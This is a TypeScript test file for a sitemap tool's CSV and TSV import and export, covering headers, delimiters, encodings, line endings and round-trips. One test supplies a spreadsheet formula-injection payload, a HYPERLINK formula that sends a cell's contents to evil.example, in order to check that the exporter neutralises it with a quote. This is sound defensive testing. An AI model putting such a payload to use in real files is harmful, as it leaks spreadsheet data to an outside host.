import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { classifyPaths } from '../../../../electron/engine/classify-paths';
import { tableText, tableTextFormat, rowsWithExtensions } from '../../../../shared/table-text';
import { emptyRow, type UrlRow } from '../../../../shared/url-table';
import { checkLoc } from '../../../../shared/validation/loc-rules';
import { serveForTest } from '../../../support/serve-for-test';
import { randomStrings } from '../../../support/random-strings';
import { importAll, problemTuples } from '../../../support/import-helpers';
import { useTempDir } from '../../../support/use-temp-dir';

const row = (loc: string, lastmod: string | null, changefreq: string | null, priority: string | null): UrlRow => ({
  ...emptyRow(loc),
  lastmod,
  changefreq,
  priority,
});
const fields = (rows: readonly UrlRow[]) => rows.map((r) => [r.loc, r.lastmod, r.changefreq, r.priority]);

describe('CSV and TSV tables', () => {
  const temp = useTempDir();

  it('maps columns by header name, in any order and case, and keeps absent fields absent', async () => {
    const file = await temp.write(
      'pages.csv',
      'Priority,LOC,lastmod\r\n0.8,https://example.com/,2024-05-01\r\n,https://example.com/about,\r\n',
    );
    const result = await importAll([file]);
    expect(result.problems).toEqual([]);
    expect(result.files[0]!.summary).toMatchObject({ kind: 'csv', name: 'pages.csv', urlCount: 2, parent: null });
    expect(fields(result.files[0]!.rows)).toEqual([
      ['https://example.com/', '2024-05-01', null, '0.8'],
      ['https://example.com/about', null, null, null],
    ]);
  });

  it('lists unknown columns in one warning on line 1 and imports the known ones', async () => {
    const file = await temp.write('shop.csv', 'loc,title,changefreq,weight\nhttps://example.com/x,Home,daily,3\n');
    const result = await importAll([file]);
    expect(problemTuples(result)).toEqual([['warning', 'table-unknown-columns', 1, null]]);
    expect(result.problems[0]!.message).toBe(
      'These columns were left out (only loc, lastmod, changefreq, priority are read): "title", "weight".',
    );
    expect(fields(result.files[0]!.rows)).toEqual([['https://example.com/x', null, 'daily', null]]);
  });

  it('names the first ten unknown columns of a header of 100,000, each clipped, and counts the rest', async () => {
    const names = Array.from({ length: 100_000 }, (_, index) => (index === 3 ? 'n'.repeat(500) : `c${index}`));
    const file = await temp.write('wide.csv', `loc,${names.join(',')}\nhttps://example.com/x\n`);
    const result = await importAll([file]);
    expect(problemTuples(result)).toEqual([
      ['warning', 'table-unknown-columns', 1, null],
      ['warning', 'table-cell-count', 2, null],
    ]);
    const shown = ['c0', 'c1', 'c2', `${'n'.repeat(117)}...`, 'c4', 'c5', 'c6', 'c7', 'c8', 'c9'];
    expect(result.problems[0]!.message).toBe(
      `These columns were left out (only loc, lastmod, changefreq, priority are read): ${shown.map((name) => `"${name}"`).join(', ')} and 99,990 more.`,
    );
    expect(result.problems[0]!.params).toMatchObject([{ columns: shown, count: 100_000 }]);
    expect(result.problems[1]!.message).toBe('This line has 1 cell; the header has 100,001.');
    expect(fields(result.files[0]!.rows)).toEqual([['https://example.com/x', null, null, null]]);
    // Without a loc column, its names are in brief too.
    const none = await importAll([await temp.write('none.csv', `${names.join(',')}\nx\n`)]);
    expect(none.problems[0]!.message).toContain(`"c9" and 99,990 more. A CSV or TSV table needs a header row`);
  });

  // The local sweep: Excel's `sep=;` line before the header was read as the header (no loc column, nothing read).
  it("reads Excel's sep= line as the delimiter it names, not as the header, in a file or a folder", async () => {
    const text = 'sep=;\r\nloc;lastmod;priority;title\r\nhttps://example.com/a;2024-01-01;0,5;A\r\nnot a url;;;\r\n';
    const file = await temp.write('excel.csv', text);
    const result = await importAll([file]);
    expect(fields(result.files[0]!.rows)).toEqual([
      ['https://example.com/a', '2024-01-01', null, '0.5'],
      ['not a url', null, null, null],
    ]);
    // Each problem on its own line: the header is line 2.
    expect(problemTuples(result).map(([, code, line]) => [code, line])).toEqual([
      ['table-unknown-columns', 2],
      [expect.stringMatching(/^loc-/), 4],
    ]);
    const folder = await importAll([temp.path()]);
    expect(folder.files.find((read) => read.summary.name === 'excel.csv')?.rows).toHaveLength(2);
    // A sep= line of another delimiter, and one that is no such line, are read as such.
    const tabbed = await importAll([
      await temp.write('tab.csv', 'sep=\t\nloc\tlastmod\nhttps://example.com/t\t2024-02-02\n'),
    ]);
    expect(fields(tabbed.files[0]!.rows)).toEqual([['https://example.com/t', '2024-02-02', null, null]]);
    const notSep = await importAll([await temp.write('not-sep.csv', 'sep=;;\nhttps://example.com/x\n')]);
    expect(notSep.problems.map((problem) => problem.code)).toEqual(['table-no-loc']);
  });

  it('refuses a table without a loc column, naming the file and what its header holds', async () => {
    const file = await temp.write('export.csv', 'url,lastmod\nhttps://example.com/,2024-01-01\n');
    const result = await importAll([file]);
    expect(result.files[0]!.rows).toEqual([]);
    expect(result.problems).toMatchObject([
      {
        severity: 'error',
        code: 'table-no-loc',
        message:
          'export.csv has no "loc" column: its first line names "url", "lastmod". A CSV or TSV table needs a header row naming loc, and may name lastmod, changefreq and priority.',
        place: { file, line: 1 },
      },
    ]);
  });

  it('keeps rows with problems, each problem on the line the row starts on (quoted line breaks counted)', async () => {
    const file = await temp.write(
      'notes.csv',
      [
        'loc,lastmod',
        'https://example.com/a,2024-01-01',
        '"https://example.com/b",2024-01-02,extra',
        '',
        '"/relative",2024-01-03',
        'https://example.com/c,"spans',
        'two lines"',
        'https://example.com/d',
        '',
      ].join('\n'),
    );
    const result = await importAll([file]);
    expect(problemTuples(result)).toEqual([
      ['warning', 'table-cell-count', 3, null],
      ['warning', 'loc-not-absolute', 5, null],
      ['warning', 'table-cell-count', 8, null],
    ]);
    expect(result.problems[0]!.message).toBe(
      'This line has 3 cells; the header has 2; the cells past the header were left out.',
    );
    expect(result.problems[1]!.place).toEqual({ file, line: 5, field: 'loc' });
    expect(fields(result.files[0]!.rows)).toEqual([
      ['https://example.com/a', '2024-01-01', null, null],
      ['https://example.com/b', '2024-01-02', null, null],
      ['/relative', '2024-01-03', null, null],
      ['https://example.com/c', 'spans\ntwo lines', null, null],
      ['https://example.com/d', null, null, null],
    ]);
  });

  it('reads TSV, a semicolon CSV, a byte order mark and gzip', async () => {
    const tsv = await temp.write('a.tsv', 'loc\tpriority\nhttps://example.com/t\t0.3\n');
    const semicolon = await temp.write('b.csv', '\uFEFFloc;changefreq\nhttps://example.com/s;weekly\n');
    const gzipped = await temp.write('c.csv.gz', gzipSync('loc\nhttps://example.com/g\n'));
    const result = await importAll([tsv, semicolon, gzipped]);
    expect(result.problems).toEqual([]);
    expect(result.files.map((file) => [file.summary.kind, file.summary.gzip])).toEqual([
      ['csv', false],
      ['csv', false],
      ['csv', true],
    ]);
    expect(result.files.flatMap((file) => fields(file.rows))).toEqual([
      ['https://example.com/t', null, null, '0.3'],
      ['https://example.com/s', null, 'weekly', null],
      ['https://example.com/g', null, null, null],
    ]);
  });

  it("reads a Dutch Excel export's decimal commas as decimals: a semicolon CSV, and only there", async () => {
    const dutch = await temp.write(
      'nl.csv',
      'loc;priority\r\nhttps://example.com/a;0,5\r\nhttps://example.com/b;,8\r\n',
    );
    const english = await temp.write('en.csv', 'loc,priority\r\nhttps://example.com/c,"0,5"\r\n');
    const result = await importAll([dutch, english]);
    expect(result.problems).toEqual([]);
    expect(result.files.flatMap((file) => fields(file.rows))).toEqual([
      ['https://example.com/a', null, null, '0.5'],
      ['https://example.com/b', null, null, '0.8'],
      ['https://example.com/c', null, null, '0,5'],
    ]);
  });

  it('warns when the bytes are not UTF-8, says the encoding may be to blame, and refuses the loc that lost a character', async () => {
    const file = await temp.write('latin1.csv', Buffer.from('loc\nhttps://example.com/caf\xe9\n', 'latin1'));
    // Past the first chunk read (256 KiB) too: the line is counted across chunks.
    const rows = Array.from({ length: 10_000 }, (_, i) => `https://example.com/page-${i}\n`).join('');
    const late = await temp.write('late.csv', Buffer.from(`loc\n${rows}https://example.com/\xff\n`, 'latin1'));
    const result = await importAll([file, late]);
    expect(problemTuples(result)).toEqual([
      ['warning', 'invalid-utf8', 2, null],
      ['warning', 'invalid-utf8', 10_002, null],
    ]);
    expect(result.problems[0]!.message).toContain('not valid UTF-8');
    expect(result.files[0]!.rows[0]!.loc).toBe('https://example.com/caf\uFFFD');
    // The character the bytes stood for is lost: the loc is an error on its cell, which stops an export.
    expect(checkLoc(result.files[0]!.rows[0]!.loc, null).map(({ code, severity }) => [code, severity])).toContainEqual([
      'loc-replacement-character',
      'error',
    ]);
  });

  it('imports a .csv over HTTP, told by the name in its URL', async () => {
    const server = await serveForTest({ '/export/pages.csv': { body: 'loc\nhttps://example.com/h\n' } });
    const result = await importAll([`${server.origin}/export/pages.csv`]);
    expect(result.files[0]!.summary).toMatchObject({ kind: 'csv', name: 'pages.csv', urlCount: 1 });
  });

  it('round-trips every field exactly through CSV and TSV, quoting only where needed', async () => {
    const rows = [
      row('https://example.com/', '2024-05-01T10:00:00+02:00', 'daily', '1.0'),
      row('https://example.com/search?q=a,b&x="y"', null, null, '0.50'),
      row('https://example.com/tab\there', '2024', 'never', null),
      row('', null, 'weekly', null),
      row('https://example.com/ünïcode', null, null, null),
    ];
    for (const format of ['csv', 'tsv'] as const) {
      const text = tableText(rows, format);
      const file = await temp.write(`round.${format}`, text);
      const result = await importAll([file]);
      expect(fields(result.files[0]!.rows)).toEqual(fields(rows));
      // The only problem is the empty loc, kept as a row, on its line (header is line 1).
      expect(problemTuples(result)).toEqual([['warning', 'loc-missing', 5, null]]);
    }
    expect(tableText(rows.slice(0, 2), 'csv')).toBe(
      'loc,lastmod,changefreq,priority\r\n' +
        'https://example.com/,2024-05-01T10:00:00+02:00,daily,1.0\r\n' +
        '"https://example.com/search?q=a,b&x=""y""",,,0.50\r\n',
    );
  });

  it('writes a cell a spreadsheet would run as a formula behind a single quote, and reads its own file back exactly', async () => {
    const rows = [
      row('https://example.com/a', '=HYPERLINK("https://evil.example/?"&A1)', '@SUM(1)', '-1'),
      row('+31 20 123', "'=quoted already", "'plain quote", '\tx'),
    ];
    expect(tableText(rows, 'csv')).toBe(
      'loc,lastmod,changefreq,priority\r\n' +
        `https://example.com/a,"'=HYPERLINK(""https://evil.example/?""&A1)",'@SUM(1),'-1\r\n` +
        `'+31 20 123,''=quoted already,'plain quote,'\tx\r\n`,
    );
    expect(tableText(rows, 'tsv').split('\n')[2]).toBe(`'+31 20 123\t''=quoted already\t'plain quote\t"'\tx"`);
    for (const format of ['csv', 'tsv'] as const) {
      const result = await importAll([await temp.write(`formulas.${format}`, tableText(rows, format))]);
      expect(fields(result.files[0]!.rows)).toEqual(fields(rows));
    }
  });

  it('reads every row of a file whose line ends are mixed: a CRLF header, LF rows, a CRLF row', async () => {
    // Taking CRLF from the header glued the LF rows into one cell: one URL of four, and no word of it.
    const file = await temp.write(
      'mixed.csv',
      'loc,lastmod\r\nhttps://example.com/a,2024-01-01\nhttps://example.com/b,"2024-01-02"\n' +
        '"https://example.com/c",2024-01-03\r\nhttps://example.com/d,\n',
    );
    const result = await importAll([file]);
    expect(result.problems).toEqual([]);
    expect(fields(result.files[0]!.rows)).toEqual([
      ['https://example.com/a', '2024-01-01', null, null],
      ['https://example.com/b', '2024-01-02', null, null],
      ['https://example.com/c', '2024-01-03', null, null],
      ['https://example.com/d', null, null, null],
    ]);
    const lines = await importAll([await temp.write('lines.csv', 'loc\r\nhttps://example.com/a\nnot a url\n')]);
    expect(problemTuples(lines).map(([, code, line]) => [code.startsWith('loc-'), line])).toEqual([[true, 3]]);
  });

  // The sweep's probe: a CR alone in a file of LF lines, or a header ended by CR, glued the rows after it into one cell, unsaid.
  it('reads every row where a CR alone ends some lines among LF ones, or ends the header only', async () => {
    const crAmongLf = await temp.write(
      'cr-among-lf.csv',
      'loc,priority\nhttps://example.com/a,0.1\nhttps://example.com/b,0.2\rhttps://example.com/c,0.3\rnot a url,0.4\n',
    );
    const result = await importAll([crAmongLf]);
    expect(fields(result.files[0]!.rows)).toEqual([
      ['https://example.com/a', null, null, '0.1'],
      ['https://example.com/b', null, null, '0.2'],
      ['https://example.com/c', null, null, '0.3'],
      ['not a url', null, null, '0.4'],
    ]);
    expect(problemTuples(result).map(([, code, line]) => [code.startsWith('loc-'), line])).toEqual([[true, 5]]);
    const crHeader = await temp.write(
      'cr-header.csv',
      `loc\r${['a', 'b', 'c'].map((p) => `https://example.com/${p}\n`).join('')}`,
    );
    expect(fields((await importAll([crHeader])).files[0]!.rows).map(([loc]) => loc)).toEqual([
      'https://example.com/a',
      'https://example.com/b',
      'https://example.com/c',
    ]);
  });

  // The sweep's probe: String.trim took a no-break space or a line separator off a cell's ends, unsaid.
  it("keeps a no-break space or a line separator at a cell's ends, as a sitemap and a text sitemap do (for the checks to flag); trims spaces and tabs", async () => {
    const file = await temp.write(
      'nbsp.csv',
      'loc,lastmod\n https://example.com/a\u00a0,2024-01-01\u3000\n\thttps://example.com/b ,\u20282024-01-02 \n',
    );
    const result = await importAll([file]);
    expect(fields(result.files[0]!.rows)).toEqual([
      ['https://example.com/a\u00a0', '2024-01-01\u3000', null, null],
      ['https://example.com/b', '\u20282024-01-02', null, null],
    ]);
  });

  it('gives back every value through its own CSV and TSV files, over many random strings', async () => {
    // A cell is trimmed on import and an empty one is absent, so values are trimmed and not empty.
    const values = randomStrings(8000, 10).filter((value) => value !== '' && value.trim() === value);
    const rows: UrlRow[] = [];
    for (let i = 0; i + 4 <= values.length; i += 4)
      rows.push(row(values[i]!, values[i + 1]!, values[i + 2]!, values[i + 3]!));
    expect(rows.length).toBeGreaterThan(1000);
    for (const format of ['csv', 'tsv'] as const) {
      const result = await importAll([await temp.write(`random.${format}`, tableText(rows, format))]);
      expect(fields(result.files[0]!.rows)).toEqual(fields(rows));
    }
  });

  it('tells tables by their name, in the import and when opening paths', async () => {
    expect(['a.csv', 'B.TSV', 'c.csv.gz', 'd.xml', 'csv', 'e.tsv.bak'].map(tableTextFormat)).toEqual([
      'csv',
      'tsv',
      'csv',
      null,
      null,
      null,
    ]);
    const file = await temp.write('table.tsv', 'loc\n');
    const { sources } = await classifyPaths([file]);
    expect(sources.map((source) => source.kind)).toEqual(['csv']);
  });

  it('counts the rows whose extensions a CSV cannot hold', () => {
    const plain = row('https://example.com/', null, null, null);
    const withImage = {
      ...plain,
      images: [{ loc: 'i', caption: null, geo_location: null, title: null, license: null, extra: [] }],
    };
    const withExtra = { ...plain, extra: ['<x/>'] };
    expect(rowsWithExtensions([plain, withImage, withExtra, plain])).toBe(2);
  });
});
